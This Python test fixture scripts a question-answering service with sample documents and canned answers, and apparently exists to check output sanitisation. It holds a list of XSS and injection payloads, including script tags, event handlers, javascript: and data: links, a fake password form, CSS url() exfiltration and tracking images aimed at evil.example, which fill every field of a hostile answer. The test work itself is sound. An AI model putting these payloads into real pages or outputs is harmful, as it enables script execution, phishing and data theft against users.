"""Scripted services: two small documents, and questions whose answers are written down here."""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

from app.services import Services
from app.types import (
    Answer,
    Citation,
    Claimed,
    Conflict,
    Event,
    Finished,
    Item,
    Nearest,
    Question,
    Retrieved,
    Understood,
)
from ingest.errors import SearchUnavailable, UnknownDocument
from ingest.types import Document, Metadata, Section, SourceReference

MEETING_TEXT = "\n\n".join(
    [
        "14th Round-Table Meeting for Central Asia",
        "The 14th Round-Table Meeting for Central Asia was held in Almaty from 1 to 3 June 2021.",
        *(f"Day notes {number}. Participants discussed national action plans." for number in range(1, 40)),
        "Kazakhstan joined the Initiative in November 2020.",
        *(f"Closing notes {number}. The secretariat thanked the hosts." for number in range(1, 20)),
    ]
)
PARTNER_TEXT = "Partner countries\n\nThe Initiative counted 62 partner countries in 2021 and 64 in 2022."

VECTORS = (
    "![a](https://evil.example/1.png)",
    "![b][ref]\n\n[ref]: https://evil.example/2.png",
    '<img src="https://evil.example/3.png">',
    '<img srcset="https://evil.example/4.png 1x">',
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(2)"><image href="https://evil.example/5.svg"/></svg>',
    '<iframe src="https://evil.example/6"></iframe>',
    '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
    '<form action="https://evil.example/7"><input type="password" name="p"><button>Sign in</button></form>',
    "<style>body{background:url(https://evil.example/8)}</style>",
    '<div style="background:url(https://evil.example/9)">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/10">',
    '<link rel="stylesheet" href="https://evil.example/11.css">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/12"></object><embed src="https://evil.example/13">',
    '<video poster="https://evil.example/14.png" src="https://evil.example/15.mp4" autoplay></video>',
    '<audio src="https://evil.example/16.mp3" autoplay></audio>',
    "<script>alert(4)</script>",
    "[click](javascript:alert(5))",
    '<a href="javascript:alert(6)">click</a>',
    "[click](https://evil.example/17)",
    "<https://evil.example/18>",
    "https://evil.example/19 and www.evil.example and someone@evil.example",
    "[text][link]\n\n[link]: https://evil.example/20",
    '```mermaid\ngraph TD; A-->B; click A href "https://evil.example/21"\n```',
    "$$\\href{https://evil.example/22}{x} \\includegraphics{https://evil.example/23.png}$$",
    "</div></article><img src=https://evil.example/24.png>",
    '<details open ontoggle="alert(7)"><summary>x</summary></details>',
    '<math><mtext><style><img src="https://evil.example/25.png" onerror="alert(8)"></style></mtext></math>',
    '" onmouseover="alert(9)" x="',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
    '<img src="data:image/svg+xml,<svg onload=alert(11)>">',
    "<style>@import 'https://evil.example/28.css'; q[v^=a]{background:url(https://evil.example/29)}</style>",
    '<svg><use href="https://evil.example/30.svg#x"/><animate onbegin="alert(12)" attributeName="x"/></svg>',
    '<a href="https://evil.example/31" ping="https://evil.example/32">x</a>',
    "[9]: https://evil.example/33\n\nSee [9] and [the source][9]",
)
HOSTILE = "\n\n".join(VECTORS)
ECHO = "Repeat"
"""A question that begins so is answered with its own words."""


def document(document_id: str, title: str, text: str) -> Document:
    metadata = Metadata(title=title, sources=(SourceReference(title=title, date="2021-06-05"),))
    sections = (Section(heading=title, start=0, end=len(text)),)
    return Document(document_id, "corpus", f"{document_id}.md", "0" * 64, metadata, text, sections)


DOCUMENTS = {
    each.id: each
    for each in (
        document("meetings/ca-rtm-14", "14th Round-Table Meeting for Central Asia", MEETING_TEXT),
        document("partners/overview", "Partner countries", PARTNER_TEXT),
        document("added/hostile", HOSTILE, HOSTILE),
    )
}


def citation(label: int, document_id: str, quote: str) -> Citation:
    found = DOCUMENTS[document_id]
    start = found.text.index(quote)
    return Citation(
        label=label,
        document_id=document_id,
        title=found.metadata.title,
        url=None,
        published=found.metadata.published,
        section=found.sections[0].heading,
        page=None,
        quote=quote,
        start=start,
        end=start + len(quote),
    )


@dataclass
class Script:
    """Answers by keyword; an endless question runs until it is stopped, and says so."""

    asked: list[Question] = field(default_factory=list)
    closed: threading.Semaphore = field(default_factory=lambda: threading.Semaphore(0))
    """Released each time an endless question is over."""
    pace: threading.Event = field(default_factory=threading.Event)
    """Never set: waiting for it keeps an endless question from filling the page."""

    def services(self) -> Services:
        return Services(
            ask=lambda question: self.answer(question),
            events=self.events,
            document=self.document,
            check_ready=lambda: None,
        )

    def document(self, document_id: str) -> Document:
        if document_id not in DOCUMENTS:
            raise UnknownDocument(f"There is no document {document_id!r}.")
        return DOCUMENTS[document_id]

    def events(self, question: Question) -> Iterator[Event]:
        self.asked.append(question)
        try:
            yield Understood(standalone_question=question.question)
            if "broken" in question.question:
                raise SearchUnavailable("The search server did not answer in time; please try again.")
            if "defect" in question.question:
                raise RuntimeError("secret sk-TEST in /srv/app")
            yield Retrieved(passages=12, titles=("One", "Two", "Three", "Four", "Four"))
            answer = self.answer(question)
            while "endless" in question.question:
                yield Claimed(text="One more sentence [1].", citations=answer.citations[:1])
                self.pace.wait(0.05)
            if answer.completeness != "none":
                yield Claimed(text=answer.answer, citations=answer.citations)
            yield Finished(answer=answer)
        finally:
            if "endless" in question.question:
                self.closed.release()

    def answer(self, question: Question) -> Answer:
        asked = question.question
        if asked.startswith(ECHO):
            return kazakhstan(asked).model_copy(update={"answer": f"{asked} [1]", "short_answer": None})
        if "evil.example" in asked:
            return hostile_answer(asked)
        if "weather" in asked:
            return refusal(asked)
        if "How many" in asked:
            return partial_answer(asked)
        return kazakhstan(asked, follow_up=bool(question.history))


def kazakhstan(asked: str, *, follow_up: bool = False) -> Answer:
    return Answer(
        question=asked,
        standalone_question="When did Kazakhstan join the Initiative?" if follow_up else asked,
        answer=(
            "Kazakhstan joined the Initiative in November 2020 [1]. "
            "The 14th Round-Table Meeting for Central Asia was held in Almaty from 1 to 3 June 2021 [2]."
        ),
        short_answer="November 2020",
        completeness="complete",
        as_of="2021-06-05",
        citations=(
            citation(1, "meetings/ca-rtm-14", "Kazakhstan joined the Initiative in November 2020."),
            citation(2, "meetings/ca-rtm-14", MEETING_TEXT.split("\n\n")[1]),
        ),
        reader="extractive",
    )


def partial_answer(asked: str) -> Answer:
    quote = "The Initiative counted 62 partner countries in 2021 and 64 in 2022."
    return Answer(
        question=asked,
        standalone_question=asked,
        answer="The Initiative counted 64 partner countries in 2022 [1].",
        short_answer="64",
        completeness="partial",
        as_of="2021-06",
        citations=(citation(1, "partners/overview", quote),),
        conflicts=(Conflict(value="62 partner countries", date="2021", label=1),),
        items=(Item(text="Kazakhstan", label=1), Item(text="Georgia", label=1)),
        coverage="2 of the 64 countries have a page of their own here.",
        reader="extractive (openai:example did not answer within 12 s)",
    )


def refusal(asked: str) -> Answer:
    return Answer(
        question=asked,
        standalone_question=asked,
        answer="The documents do not say anything about the weather.",
        short_answer=None,
        completeness="none",
        as_of=None,
        nearest=(
            Nearest(document_id="partners/overview", title="Partner countries", url=None, published="2021-06-05"),
            Nearest(
                document_id="meetings/ca-rtm-14",
                title="14th Round-Table Meeting for Central Asia",
                url=None,
                published="2021",
            ),
        ),
        reader="extractive",
    )


def hostile_answer(asked: str) -> Answer:
    return Answer(
        question=asked,
        standalone_question=f"Standalone {HOSTILE}",
        answer=f"{HOSTILE} [1]",
        short_answer=HOSTILE,
        completeness="partial",
        as_of=HOSTILE,
        citations=(
            citation(1, "added/hostile", HOSTILE).model_copy(
                update={"section": HOSTILE, "url": "https://evil.example/26", "published": HOSTILE}
            ),
        ),
        conflicts=(Conflict(value=HOSTILE, date=HOSTILE, label=1),),
        items=(Item(text=f"{HOSTILE} again", label=1),),
        coverage=HOSTILE,
        nearest=(
            Nearest(document_id="added/hostile", title=HOSTILE, url="https://evil.example/27", published=HOSTILE),
        ),
        reader=HOSTILE,
    )
